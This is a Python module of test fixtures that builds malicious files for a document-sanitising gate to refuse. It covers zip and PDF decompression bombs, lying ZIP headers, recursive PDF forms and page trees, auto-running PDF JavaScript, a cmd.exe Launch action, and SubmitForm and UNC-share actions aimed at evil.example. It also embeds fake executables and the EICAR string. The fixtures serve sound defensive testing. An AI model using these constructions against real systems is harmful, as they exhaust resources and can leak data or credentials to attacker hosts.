"""Makes the files that hurt: what the gate must refuse or clean. Nothing here is downloaded."""

import io
import os
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

OOXML = "application/vnd.openxmlformats-officedocument."
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BODY = {
    "docx": ("word/document.xml", "wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation.main+xml"),
}
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


# ---------- Pictures ----------


def photo(kind: str = "JPEG", **more: Any) -> bytes:
    """A picture with a place, an author and a comment."""
    picture = Image.new("RGB", (60, 40), (200, 30, 30))
    picture.putpixel((0, 0), (0, 0, 255))
    exif = Image.Exif()
    exif[0x013B] = "Hemliga Hanna"
    exif[0x0112] = 6
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (59.0, 19.0, 57.0)
    out = io.BytesIO()
    if kind == "JPEG":
        more |= {"comment": b"Hemliga Hanna"}
    picture.save(out, kind, exif=exif, **more)
    return out.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def huge_png(side: int = 50_000) -> bytes:
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0")) + chunk(b"IEND", b"")


# ---------- Packed documents ----------


def office(
    kind: str = "docx",
    *,
    parts: dict[str, bytes] | None = None,
    main: str = "",
    types: str = "",
    relations: str = "",
    body: str = "",
    settings: bool = False,
) -> bytes:
    """A small Office file, with what a test adds to it."""
    path, content = BODY[kind]
    folder, _slash, name = path.partition("/")
    entries = {
        "[Content_Types].xml": (
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            f'<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/{path}" ContentType="{main or OOXML + content}"/>{types}</Types>'
        ).encode(),
        path: (
            '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            f"<w:body>Hej {body}</w:body></w:document>"
        ).encode(),
        f"{folder}/_rels/{name}.rels": (
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f"{relations}</Relationships>"
        ).encode(),
        "docProps/core.xml": (
            b'<?xml version="1.0"?><cp:coreProperties xmlns:dc="http://purl.org/dc/elements/1.1/" '
            b'xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties">'
            b"<dc:title>Barn &amp; unga</dc:title><dc:creator>Hemliga Hanna</dc:creator>"
            b"<cp:lastModifiedBy>Hemliga Hanna</cp:lastModifiedBy></cp:coreProperties>"
        ),
        "docProps/app.xml": b"<Properties><Company>Hemliga kommunen</Company></Properties>",
        f"{folder}/media/image1.jpeg": photo(),
        **(parts or {}),
    }
    return packed(entries)


def packed(entries: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as file:
        for name, data in entries.items():
            file.writestr(name, data)
    return out.getvalue()


def relation(role: str, target: str) -> str:
    return f'<Relationship Id="rId9" Type="{RELATIONS}/{role}" Target="{target}" TargetMode="External"/>'


def odf(kind: str = "text", *, content: str = "", parts: dict[str, bytes] | None = None) -> bytes:
    """A small OpenDocument file."""
    spaces = (
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
        'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
        'xmlns:xlink="http://www.w3.org/1999/xlink"'
    )
    return packed(
        {
            "mimetype": f"application/vnd.oasis.opendocument.{kind}".encode(),
            "content.xml": (
                f"<office:document-content {spaces}><office:scripts/>{content}</office:document-content>"
            ).encode(),
            "meta.xml": (
                f'<office:document-meta {spaces} xmlns:dc="http://purl.org/dc/elements/1.1/"><office:meta>'
                "<dc:creator>Hemliga Hanna</dc:creator></office:meta></office:document-meta>"
            ).encode(),
            "META-INF/manifest.xml": b"<manifest/>",
            **(parts or {}),
        }
    )


def zip_bomb() -> bytes:
    """40 kB that unpack to 40 MB, as a document that is right in everything else."""
    return office(parts={"word/media/big.bmp": b"\0" * 40_000_000})


def many_entries() -> bytes:
    return office(parts={f"word/media/{number}.xml": b"" for number in range(1_001)})


def lying_sizes() -> bytes:
    """The directory says that a part of 30 MB has 10 bytes."""
    data = bytearray(office(parts={"word/media/lie.bmp": b"\0" * 30_000_000}))
    place = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/media/lie.bmp"))
    data[place + 24 : place + 28] = struct.pack("<I", 10)
    local = data.find(b"PK\x03\x04", data.find(b"word/media/lie.bmp") - 30)
    data[local + 22 : local + 26] = struct.pack("<I", 10)
    return bytes(data)


def endless_directory() -> bytes:
    """A directory of a million entries that all point at the same bytes."""
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"a"
    entry = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    directory = entry * 400_000
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 60_000, 60_000, len(directory), len(local), 0)
    return local + directory + end


# ---------- PDF ----------


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, *, pages: int = 2, **how: Any) -> bytes:
    """A small PDF with an author, with what a test does to it."""
    document = pikepdf.new()
    for _number in range(pages):
        document.add_blank_page(page_size=(595, 842))
    with document.open_metadata() as facts:
        facts["dc:creator"] = ["Hemliga Hanna"]
    document.docinfo["/Title"] = String("Barn & unga")
    document.docinfo["/Author"] = String("Hemliga Hanna")
    if change:
        change(document)
    out = io.BytesIO()
    document.save(out, **how)
    return out.getvalue()


def scripts(document: pikepdf.Pdf) -> None:
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    document.Root.OpenAction = script
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script])))
    document.pages[0].obj.AA = Dictionary(O=script)
    # One that hides in the chain of a harmless action, and one in an object of its own.
    turn = Dictionary(S=Name.GoTo, D=Array([document.pages[0].obj, Name.Fit]), Next=document.make_indirect(script))
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=turn)
    document.pages[1].obj.Annots = Array([document.make_indirect(note)])


def launches(document: pikepdf.Pdf) -> None:
    actions = [
        Dictionary(S=Name.Launch, F=String("cmd.exe")),
        Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")),
        Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\share"), D=Array([0])),
        Dictionary(S=Name.URI, URI=String("javascript:alert(1)")),
        Dictionary(S=Name.URI, URI=String("https://good.example/")),
    ]
    document.pages[0].obj.Annots = Array(
        [
            document.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action))
            for action in actions
        ]
    )


def attachments(document: pikepdf.Pdf) -> None:
    document.attachments["evil.exe"] = pikepdf.AttachedFileSpec(document, b"MZ" * 9, filename="evil.exe")
    carried = pikepdf.AttachedFileSpec(document, b"MZ" * 9, filename="other.exe")
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=carried.obj)
    document.pages[0].obj.Annots = Array([document.make_indirect(note)])


def content_bomb(*, twice: bool) -> bytes:
    """A page whose instructions unpack to 256 MB, in one or two layers of packing."""
    press = zlib.compressobj(9)
    raw = b"".join([press.compress(b"0 0 m\n" * 2**20) for _ in range(43)] + [press.flush()])
    document = pikepdf.new()
    document.add_blank_page(page_size=(595, 842))
    stream = Stream(document, b"")
    filters = Array([Name.FlateDecode, Name.FlateDecode]) if twice else Name.FlateDecode
    stream.write(zlib.compress(raw, 9) if twice else raw, filter=filters)
    document.pages[0].obj.Contents = document.make_indirect(stream)
    out = io.BytesIO()
    document.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


def huge_image(document: pikepdf.Pdf) -> None:
    image = Stream(document, zlib.compress(b"\0" * 9))
    for key, value in {"Subtype": Name.Image, "Width": 60_000, "Height": 60_000, "ColorSpace": Name.DeviceRGB}.items():
        image["/" + key] = value
    document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I=document.make_indirect(image)))
    document.pages[0].obj.Contents = document.make_stream(b"q 595 0 0 842 0 0 cm /I Do Q")


def inline_image(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.Contents = document.make_stream(b"BI /W 60000 /H 60000 /CS /G /BPC 1 /F /Fl ID xx EI")


def lying_jpeg(document: pikepdf.Pdf) -> None:
    """The page says 60 x 40, the picture's own header 60,000 x 60,000."""
    raw = bytearray(photo())
    place = raw.find(b"\xff\xc0") + 5
    raw[place : place + 4] = struct.pack(">HH", 60_000, 60_000)
    image = Stream(document, b"")
    image.write(bytes(raw), filter=Name.DCTDecode)
    for key, value in {"Subtype": Name.Image, "Width": 60, "Height": 40, "ColorSpace": Name.DeviceRGB}.items():
        image["/" + key] = value
    document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I=document.make_indirect(image)))


def with_photo(document: pikepdf.Pdf) -> None:
    image = Stream(document, b"")
    image.write(photo(), filter=Name.DCTDecode)
    for key, value in {"Subtype": Name.Image, "Width": 60, "Height": 40, "ColorSpace": Name.DeviceRGB}.items():
        image["/" + key] = value
    image["/BitsPerComponent"] = 8
    document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I=document.make_indirect(image)))
    document.pages[0].obj.Contents = document.make_stream(b"/I Do")


def doubling_forms(document: pikepdf.Pdf) -> None:
    """25 small objects that draw 2^24 things."""
    facts = {"Type": Name.XObject, "Subtype": Name.Form, "BBox": Array([0, 0, 9, 9])}
    form = document.make_stream(b"0 0 m", **facts)
    for _number in range(24):
        inner = Dictionary(XObject=Dictionary(F=form))
        form = document.make_stream(b"/F Do /F Do", Resources=inner, **facts)
    document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(F=form))
    document.pages[0].obj.Contents = document.make_stream(b"/F Do")


def own_form(document: pikepdf.Pdf) -> None:
    """A form that draws itself."""
    form = document.make_stream(b"/F Do", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    form["/Resources"] = Dictionary(XObject=Dictionary(F=form))
    document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(F=form))
    document.pages[0].obj.Contents = document.make_stream(b"/F Do")


def dense_pattern(document: pikepdf.Pdf) -> None:
    pattern = document.make_stream(
        b"0 0 500 500 re f",
        PatternType=1,
        PaintType=1,
        TilingType=1,
        BBox=Array([0, 0, 500, 500]),
        XStep=0.01,
        YStep=0.01,
    )
    document.pages[0].obj.Resources = Dictionary(Pattern=Dictionary(P=pattern))
    document.pages[0].obj.Contents = document.make_stream(b"/Pattern cs /P scn 0 0 500 500 re f")


def wide_page(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.MediaBox = Array([0, 0, 10**9, 10**9])


def one_program_form(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(XFA=String("<xdp/>"), Fields=Array([]))


def plain_form(document: pikepdf.Pdf) -> None:
    """A form that people fill in, with a script that counts."""
    field = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Tx,
        T=String("namn"),
        Rect=Array([0, 0, 99, 20]),
        AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("1"))),
    )
    box = document.make_indirect(field)
    document.Root.AcroForm = Dictionary(Fields=Array([box]), CO=Array([box]))
    document.pages[0].obj.Annots = Array([box])


HEAD = b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R"
PAGE = b" 3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj trailer<</Root 1 0 R>>\n%%EOF"


def nested_arrays() -> bytes:
    nest = b"[" * 30_000 + b"]" * 30_000
    return HEAD + b"/X " + nest + b">>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj" + PAGE


def looping_pages() -> bytes:
    return (
        HEAD + b">>endobj 2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 99999999>>endobj trailer<</Root 1 0 R>>\n%%EOF"
    )


def garbage() -> bytes:
    return b"%PDF-1.7\n" + os.urandom(50_000) + b"%%EOF"
